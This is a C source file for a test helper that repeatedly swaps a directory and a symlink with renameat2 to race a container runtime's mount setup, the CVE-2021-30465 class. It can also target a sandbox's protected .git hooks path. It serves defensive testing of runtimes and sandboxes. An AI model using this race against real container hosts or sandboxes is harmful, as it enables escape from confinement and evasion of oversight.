/* A symlink swapped into a mount destination while the runtime creates a
 * container (the CVE-2021-30465 class).
 *
 *   esc_symlink_swap DIR TARGET [--hold-link] [--name NAME]
 *
 * Makes DIR/d a directory and DIR/l a symlink to TARGET, then exchanges
 * the two names with renameat2(RENAME_EXCHANGE) as fast as it can, so
 * that DIR/d is a symlink to TARGET half of the time, until SIGTERM,
 * SIGINT or SIGUSR1.  --hold-link: one exchange, then wait (DIR/d stays
 * the symlink).  The test creates containers with a mount destination
 * inside DIR/d meanwhile and checks where their mounts land; this program
 * only prints "swapping" when it starts and "swaps N" at the end (or
 * "error ..." when it cannot, e.g. on a read-only DIR: exit 2).
 * --name NAME: DIR/NAME and DIR/NAME.l instead (NAME "hooks" in a .git:
 * the sandbox's protected paths).  An exchange refused with EBUSY (one of
 * the names is a mount point somewhere: a sandbox pinned it) is counted
 * ("busy N" at the end) and tried again. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/stat.h>

#include "escape.h"

static volatile sig_atomic_t stop;
static void on_stop(int sig) { (void)sig; stop = 1; }

int main(int argc, char **argv)
{
    int hold = 0;
    const char *name = NULL;
    for (int i = 3; i < argc; i++) {
        if (strcmp(argv[i], "--hold-link") == 0)
            hold = 1;
        else if (strcmp(argv[i], "--name") == 0 && i + 1 < argc)
            name = argv[++i];
        else
            argc = 0;
    }
    if (argc < 3)
        esc_error("usage: esc_symlink_swap DIR TARGET [--hold-link] [--name NAME]");
    char d[4096], l[4096];
    snprintf(d, sizeof(d), "%s/%s", argv[1], name ? name : "d");
    snprintf(l, sizeof(l), "%s/%s%s", argv[1], name ? name : "l", name ? ".l" : "");
    if (mkdir(d, 0755) < 0 && errno != EEXIST)
        esc_error("mkdir %s: %s", d, strerror(errno));
    if (unlink(l) < 0 && errno != ENOENT)
        esc_error("unlink %s: %s", l, strerror(errno));
    if (symlink(argv[2], l) < 0)
        esc_error("symlink %s: %s", l, strerror(errno));
    struct sigaction sa;
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_stop;
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    sigaction(SIGUSR1, &sa, NULL);
    printf("swapping\n");
    fflush(stdout);
    unsigned long n = 0, busy = 0;
    if (hold) {
        if (renameat2(AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE) < 0)
            esc_error("renameat2(RENAME_EXCHANGE): %s", strerror(errno));
        n = 1;
        while (!stop)
            pause();
    } else {
        while (!stop) {
            if (renameat2(AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE) == 0) {
                n++;
                continue;
            }
            if (errno != EBUSY)
                esc_error("renameat2(RENAME_EXCHANGE) after %lu swaps: %s", n, strerror(errno));
            busy++;
            sched_yield();
        }
        /* leave DIR/d the directory */
        while (n % 2 && renameat2(AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE) < 0 && errno == EBUSY)
            sched_yield();
    }
    printf("swaps %lu\nbusy %lu\n", n, busy);
    return 0;
}
